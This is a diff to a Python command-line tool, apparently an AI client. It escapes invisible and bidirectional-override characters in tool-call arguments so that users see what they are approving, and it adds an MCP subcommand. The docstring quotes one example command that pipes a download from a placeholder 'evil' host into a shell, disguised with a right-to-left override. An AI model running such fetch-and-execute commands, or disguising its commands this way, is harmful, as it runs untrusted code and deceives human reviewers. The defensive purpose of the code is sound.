@@ -61,6 +61,20 @@ def _redact(text: str) -> str:
     return text.replace(key, "***") if len(key) >= 4 else text
 
 
+def visible(text: str) -> str:
+    """``text`` with every character that is not printable escaped (``\\u202e``), for what the model
+    wrote and the user must judge: bidi overrides (U+202E, U+2066), C1 (U+009B, U+0085), zero-width and
+    other format characters could otherwise make ``curl evil|sh #<RLO> ls`` look harmless."""
+    if text.isprintable():
+        return text
+    return "".join(c if c.isprintable() else _escape(c) for c in text)
+
+
+def _escape(char: str) -> str:
+    code = ord(char)
+    return f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"
+
+
 def _one_line(exc: BaseException) -> str:
     """What went wrong and what to do, on one line."""
     while len(getattr(exc, "exceptions", ())) == 1:  # a task group's single failure
@@ -209,7 +223,7 @@ def approver(args: argparse.Namespace, console: Console, pause: Callable[[], Non
     lock = anyio.Lock()
 
     async def approve(name: str, arguments: dict[str, Any]) -> bool:
-        shown = json.dumps(arguments, ensure_ascii=False)
+        shown = visible(json.dumps(arguments, ensure_ascii=False))
         if args.yes:
             return True
         if not sys.stdin.isatty():
@@ -353,6 +367,9 @@ def build_parser() -> argparse.ArgumentParser:
     fim.add_argument("--suffix", help="text after the gap")
     fim.add_argument("--model", default="deepseek-chat", help="model name (default deepseek-chat)")
     fim.add_argument("--max-tokens", type=int, default=256, help="longest completion (default 256)")
+    from ._cli_mcp import add_mcp_command
+
+    add_mcp_command(sub, common)
     return parser
 
 
